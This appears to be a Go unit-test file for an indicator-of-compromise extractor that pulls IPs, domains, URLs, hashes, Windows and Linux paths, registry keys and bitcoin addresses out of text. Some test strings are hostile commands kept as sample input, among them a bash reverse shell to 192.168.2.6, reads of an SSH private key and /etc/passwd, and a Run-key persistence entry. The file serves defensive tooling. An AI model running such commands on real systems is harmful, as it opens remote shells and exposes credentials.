package observe

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const (
	testMD5    = "801e8003c257c8f540b20f1e0decd3a6"
	testSHA1   = "51b8646308ee0b68ad1f7f1291b85395434de49a"
	testSHA256 = "0d25e8f0b1c1a5b6a9e3f4f1f5dd0c2a7c1d7ef2b1c9f7ab9e9e8d7c6b5a4f30"
)

// lines writes observables as "type value<part of".
func lines(found []Observable) []string {
	out := []string{}
	for _, o := range found {
		line := string(o.Type) + " " + o.Value
		if o.PartOf != "" {
			line += "<" + string(o.PartOf)
		}
		out = append(out, line)
	}
	return out
}

func check(t *testing.T, cases map[string][]string) {
	t.Helper()
	for text, want := range cases {
		if diff := cmp.Diff(want, lines(Find(text))); diff != "" {
			t.Errorf("%q: %s", text, diff)
		}
	}
}

func TestAddresses(t *testing.T) {
	check(t, map[string][]string{
		"-ip4:206.123.1.123 and 10.0.0.5:443, 1.2.3.4.5 10.0.18362.1 999.1.1.1":                                 {"ipv4 206.123.1.123", "ipv4 10.0.0.5"},
		"10.0.0.1-10.0.0.9, 010.001.002.003":                                                                    {"ipv4 10.0.0.1", "ipv4 10.0.0.9", "ipv4 10.1.2.3"},
		"Version=4.0.0.0, Culture=neutral v 1.2.3.4 v1.2.3.4 Chrome/9.8.7.6 ModuleVersion = '2.16.0.0' 0.3.0.0": {},
		"cifs/10.1.2.3 0.0.0.0 x_1.2.3.4":                                                                       {"ipv4 10.1.2.3", "ipv4 0.0.0.0"},
		"206[.]123[.]1[.]123 206.123[.]1.123 206.123.1[.123 206[.]123[.]1[.]com":                                {"ipv4 206.123.1.123", "ipv4 206.123.1.123", "ipv4 206.123.1.123", "dns 206.123.1.com"},
		"2001:0db8:85a3:0000:0000:8a2e:0370:7334 fe80::1 12:34:56 aa:bb:cc:dd:ee:ff":                            {"ipv6 2001:db8:85a3::8a2e:370:7334", "ipv6 fe80::1"},
		"::ffff:192.0.2.128 [::1]:80 std::string a::b [x]::Add 2001::1: down":                                   {"ipv4 192.0.2.128", "ipv6 ::1", "ipv6 2001::1"},
		"1.0.0.0 8.8.0.0/16 10.0.0.0":                                                                           {"ipv4 8.8.0.0", "ipv4 10.0.0.0"},
		`C:\Program Files\Tool\92.0.1.2\t.exe`:                                                                  {`windows_path C:\Program Files\Tool\92.0.1.2\t.exe`},
	})
}

func TestNames(t *testing.T) {
	check(t, map[string][]string{
		"blah.ps1 run.sh x.zip a.py $_.Name $a.com Get.Info( more.com chcp.com x.exe":  {},
		"domain.like.uk domain.like.iandom news.ycombinator.com EVIL.COM Evil.Com":     {"dns domain.like.uk", "dns news.ycombinator.com", "dns evil.com", "dns evil.com"},
		"Microsoft.NET Process.Id System.Int32 [x.name]::y() a.com() com.vendor.cloud": {},
		"ping evil.sh & curl -s transfer.sh; evil[.]zip":                               {"dns evil.sh", "dns transfer.sh", "dns evil.zip"},
		"_ldap._tcp.dc.example.org foo_bar.name a-.com -x.com x..com":                  {"dns _ldap._tcp.dc.example.org", "dns x.com"},
		"expyuzz4wqqyqhjn.onion foo.github.io github.io co.uk":                         {"dns expyuzz4wqqyqhjn.onion", "dns foo.github.io", "dns github.io"},
		"mail <user@microsoft.com> user[at]abc[.]net a@b o.k+tag@x.org u@corp.local":   {"email user@microsoft.com", "dns microsoft.com<email", "email user@abc.net", "dns abc.net<email", "email o.k+tag@x.org", "dns x.org<email", "email u@corp.local", "dns corp.local<email"},
		"git@10.0.0.1 logo@2x.png unit@tty1.service @x.org a@b@c.com":                  {"ipv4 10.0.0.1", "dns x.org", "email b@c.com", "dns c.com<email"},
	})
}

func TestURLs(t *testing.T) {
	check(t, map[string][]string{
		"hXXps://evil[.]example[.]com/a (see http://a.org/b_(c)). sftp://x.org":     {"url https://evil.example.com/a", "dns evil.example.com<url", "url http://a.org/b_(c)", "dns a.org<url", "url sftp://x.org", "dns x.org<url"},
		"http://10.10.10.5/news.php http://server:8080/x http://[2001:db8::1]:80/a": {"url http://10.10.10.5/news.php", "ipv4 10.10.10.5<url", "url http://server:8080/x", "url http://[2001:db8::1]:80/a", "ipv6 2001:db8::1<url"},
		"http://3232235777/a http://0xC0A80101/b":                                   {"url http://3232235777/a", "ipv4 192.168.1.1<url", "url http://0xc0a80101/b", "ipv4 192.168.1.1<url"},
		`file:///C:\a\b file:///etc/passwd`:                                         {`windows_path C:\a\b`, "url file:///etc/passwd"},
		"http://e%76il.com/a":                                                       {"url http://evil.com/a", "dns evil.com<url"},
		"https://x.org/?u=http%3A%2F%2Fevil.com%2Fa&h=" + testMD5:                   {"url https://x.org/?u=http%3A%2F%2Fevil.com%2Fa&h=" + testMD5, "dns x.org<url", "url http://evil.com/a&h=" + testMD5 + "<url", "dns evil.com<url", "md5 " + testMD5 + "<url"},
		"u=http%3A%2F%2Fevil.com%2Fa b":                                             {"url http://evil.com/a", "dns evil.com<url"},
		`{"u":"http:\/\/evil.com\/a.exe"} \nhttp://b.org,http://c.org`:              {"url http://evil.com/a.exe", "dns evil.com<url", "url http://b.org", "dns b.org<url", "url http://c.org", "dns c.org<url"},
		"https://web.archive.org/web/http://evil.com/x":                             {"url https://web.archive.org/web/http://evil.com/x", "dns web.archive.org<url", "url http://evil.com/x<url", "dns evil.com<url"},
		"http://$ip:80/x http://*:80/ LDAP:// ldap://CN=a,DC=b xhttp://c.org/":      {"dns c.org"},
		"http://evil.com/a?b=1&amp;c=2;wget x; “http://d.org/e”":                    {"url http://evil.com/a?b=1&amp;c=2", "dns evil.com<url", "url http://d.org/e", "dns d.org<url"},
		"https://user:pw@some.domain.es:88/p?ip=10.2.4.5#x":                         {"url https://user:pw@some.domain.es:88/p?ip=10.2.4.5#x", "dns some.domain.es<url", "ipv4 10.2.4.5<url"},
	})
}

func TestHashesAndNumbers(t *testing.T) {
	upper := strings.ToUpper(testSHA1)
	check(t, map[string][]string{
		"SHA1=" + upper + ",MD5=" + testMD5 + "," + strings.Repeat("a", 32): {"sha1 " + testSHA1, "md5 " + testMD5},
		testMD5 + " " + testMD5 + "\n" + testSHA256:                         {"md5 " + testMD5, "md5 " + testMD5, "sha256 " + testSHA256},
		testMD5 + "0 x" + testMD5 + " " + testMD5 + "z":                     {},
		`C:\q\1.2-` + testSHA1 + `\a_` + testMD5 + `.exe`:                   {`windows_path C:\q\1.2-` + testSHA1 + `\a_` + testMD5 + `.exe`, "sha1 " + testSHA1 + "<windows_path", "md5 " + testMD5 + "<windows_path"},
		`"ja3":"` + testMD5 + `" ja3s=` + testMD5:                           {"ja3 " + testMD5, "ja3 " + testMD5},
		"cve-2021-44228 CVE-2021-1 exploit_CVE-2017-0144.py CVE-20211-4422": {"cve CVE-2021-44228", "cve CVE-2017-0144"},
		// The addresses of BIP 173, BIP 350 and the first block; then with a wrong digit.
		"1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb":                 {"bitcoin 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"},
		"bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5": {"bitcoin bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"},
		"bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0":                        {"bitcoin bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0"},
	})
}

func TestWindows(t *testing.T) {
	check(t, map[string][]string{
		`"C:\Program Files\a b\x.exe" -x C:\Windows\System32\cmd.exe /c \\srv01\c$\x.dll`: {
			`windows_path C:\Program Files\a b\x.exe`, `windows_path C:\Windows\System32\cmd.exe`, `windows_path \\srv01\c$\x.dll`,
		},
		`C:\Program Files (x86)\Tool\t.exe --flag copy C:\a b\c.txt D:\e`:                  {`windows_path C:\Program Files (x86)\Tool\t.exe`, `windows_path C:\a b\c.txt`, `windows_path D:\e`},
		`cmd /c "C:\x\y.exe -a C:\z" & '.\run -b'`:                                         {`windows_path C:\x\y.exe`, `windows_path C:\z`, `windows_path .\run`},
		`{"p":"C:\\Windows\\x.exe"} \\?\C:\y.sys %TEMP%\a.bat $env:APPDATA\b.ps1`:          {`windows_path C:\Windows\x.exe`, `windows_path C:\y.sys`, `windows_path %TEMP%\a.bat`, `windows_path $env:APPDATA\b.ps1`},
		`DOMAIN\user Module\Get-Thing a\nb \n`:                                             {},
		`\\10.1.2.3\share\a \\fs.corp.example\x\y \\x.org@SSL\DavWWWRoot\z`:                {`windows_path \\10.1.2.3\share\a`, "ipv4 10.1.2.3<windows_path", `windows_path \\fs.corp.example\x\y`, "dns fs.corp.example<windows_path", `windows_path \\x.org@SSL\DavWWWRoot\z`, "dns x.org<windows_path"},
		`reg add HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Run /v a`: {`registry_key HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Run`},
		`ls HKCU:\Software\x; "Registry::HKU\.DEFAULT\y z"`:                                {`registry_key HKCU\Software\x`, `registry_key HKU\.DEFAULT\y`},
		`\\.\pipe\MSSE-1-server \\host\pipe\x1 Global\abc-1 Mutex($true, 'Local\zz')`:      {`pipe \\.\pipe\MSSE-1-server`, `pipe \\host\pipe\x1`, `mutex Global\abc-1`, `mutex Local\zz`},
		`C:\temp\evil.com C:\sites\evil.com\x`:                                             {`windows_path C:\temp\evil.com`, `windows_path C:\sites\evil.com\x`, "dns evil.com<windows_path"},
	})
}

func TestLinux(t *testing.T) {
	check(t, map[string][]string{
		"/bin/bash --file:/etc/passwd cmd /c /F a/b/c 1/2/2020 </Users>": {"linux_path /bin/bash", "linux_path /etc/passwd"},
		"bash -i >& /dev/tcp/192.168.2.6/443 0>&1":                       {"linux_path /dev/tcp/192.168.2.6/443", "ipv4 192.168.2.6<linux_path"},
		"~/.ssh/id_rsa ../../x.sh ./run /subscriptions/a/b":              {"linux_path ~/.ssh/id_rsa", "linux_path ../../x.sh", "linux_path ./run"},
		"cat /etc/letsencrypt/live/evil.com/key.pem":                     {"linux_path /etc/letsencrypt/live/evil.com/key.pem", "dns evil.com<linux_path"},
	})
}

// TestUpstream holds the cases that MSTICPy's own tests describe, rebuilt, with
// the counts they assert; where ours differ the comment says why.
func TestUpstream(t *testing.T) {
	path := `c:\one\path\or\another\myprocess`
	three := func(h string) string { return h + " and " + h[:8] + "1" + h[9:] + ", " + h[:8] + "2" + h[9:] }
	for _, c := range []struct {
		text string
		typ  Type
		want int
	}{
		{path + " -ip4:206.123.1.123", IPv4, 1},
		{path + " -ip6:(2001:0db8:85a3:0000:0000:8a2e:0370:7334, 2001:db8:85a3:0:0:8a2e:370:7334\n2001:db8:85a3::8a2e:370:7334 ::ffff:192.0.2.128)", IPv6, 3},
		{path + " /url:https://some.domain.it/thepath?qry1=abc&qry2=xyz\n/url:https://myuser@some.domain.es:88/thepath?q=1\"<some other", URL, 2},
		{path + " /url:https://some.domain.it/thepath?qry1=abc\n/url:https://myuser@some.domain.es:88/thepath?q=1", DNS, 2},
		{path + " /url:https://some.domain.it/thepath?qry1=abc", IPv4, 0},
		{"curl 'https://www.virustotal.com/en/ip-address/90.156.201.27/information/'", URL, 1},
		{"curl 'https://www.virustotal.com/en/ip-address/90.156.201.27/information/'", DNS, 1},
		{"curl 'https://www.virustotal.com/en/ip-address/90.156.201.27/information/'", IPv4, 1},
		{path + ` "..\another\file" "\\uncpath\file"`, WindowsPath, 3},
		{"/bin/bash --file:./bish --file:/bin/bash --file:../../bosh", LinuxPath, 4}, // they count /bin/bash once
		{three(testMD5), MD5, 3},
		{three(testSHA1), SHA1, 3},
		{three(testSHA256), SHA256, 3},
		{"domain.like.uk", DNS, 1},
		{"domain.like.iandom", DNS, 0},
		{"microsoft.com", DNS, 1},
		{"news.ycombinator.com", DNS, 1},
		{"user@microsoft.com", Email, 1},
		{"<user@microsoft.com>", Email, 1},
		{"user@microsoft.com, see", Email, 1},
		{"user@abc.def.net>", Email, 1},

		{"206[.]123.1.123", IPv4, 1},
		{"206[.]123[.]1.123", IPv4, 1},
		{"206[.]123[.]1[.]123", IPv4, 1},
		{"206.123[.]1[.]com", IPv4, 0},
		{"hXXps://some.domain.it/thepath", URL, 1},
		{"hXXps://some[.]domain[.]it/thepath", URL, 1},
		{"hXXp://some[.]domain[.]it/thepath", URL, 1},
		{"ftp://some[.]domain.it/thepath", URL, 1},
		{"sftp://some[.]domain.it/thepath", URL, 1},
		{"ftps://some.domain[.]it/thepath", URL, 1},
		{"fXp://some[.]domain[.]it/thepath", URL, 1},
		{"sfXp://some[.]domain[.]it/thepath", URL, 1},
		{"fXps://some[.]domain[.]it/thepath", URL, 1},
		{"file://some[.]domain[.]it/thepath", URL, 1},
		{"telnet://some[.]domain[.]it/thepath", URL, 1},
		{"some[.]domain.it", DNS, 1},
		{"some.domain[.]it", DNS, 1},
		{"some[.]domain[.]it", DNS, 1},
		{"user@abc[.]def.net", Email, 1},
		{"user[at]abc[.]def[.]net", Email, 1},
		{"user[AT]abc[.]def[.]net", Email, 1},
		{"user[at]abc.def.net", Email, 1},
	} {
		n := 0
		for _, o := range Find(c.text) {
			if o.Type == c.typ {
				n++
			}
		}
		if n != c.want {
			t.Errorf("%q: %d times %s, want %d: %v", c.text, n, c.typ, c.want, lines(Find(c.text)))
		}
	}
}
